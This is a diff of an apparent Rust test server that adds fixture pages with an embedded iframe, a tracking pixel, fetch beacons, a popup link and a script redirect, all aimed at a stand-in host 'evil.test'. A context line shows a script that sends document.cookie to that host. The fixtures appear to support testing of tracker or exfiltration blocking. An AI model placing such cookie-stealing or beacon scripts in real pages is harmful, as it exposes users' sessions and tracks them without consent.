@@ -132,6 +132,30 @@ document.body.insertAdjacentHTML('beforeend', parts.join(''));
 <script>fetch('http://evil.test:{port}/beacon?c=' + document.cookie).catch(()=>{{}});</script>"#
             ),
         )),
+        "/framed" => html(page(
+            "Framed",
+            &format!(
+                r#"<h1>Framed</h1><iframe title="Inner" src="http://other.test:{port}/tracked" width=400 height=200></iframe>"#
+            ),
+        )),
+        "/tracked" => html(page(
+            "Tracked",
+            &format!(
+                r#"<p>inside the other site's frame</p><img src="http://evil.test:{port}/frame-pixel.gif" alt=""><script>fetch('http://evil.test:{port}/frame-beacon').catch(()=>{{}});</script>"#
+            ),
+        )),
+        "/popup" => html(page(
+            "Popup",
+            &format!(
+                r#"<h1>Popup</h1><a href="http://evil.test:{port}/popup-landed" target="_blank">Open the offer</a>"#
+            ),
+        )),
+        "/leave" => html(page(
+            "Leaving",
+            &format!(
+                r#"<h1>Leaving</h1><script>location.href = 'http://evil.test:{port}/landed';</script>"#
+            ),
+        )),
         "/login" => html(page(
             "Sign in",
             r#"<h1>Sign in</h1><form><label>Email <input name=email></label><label>Password <input type=password name=pw></label><button>Sign in</button></form>"#,
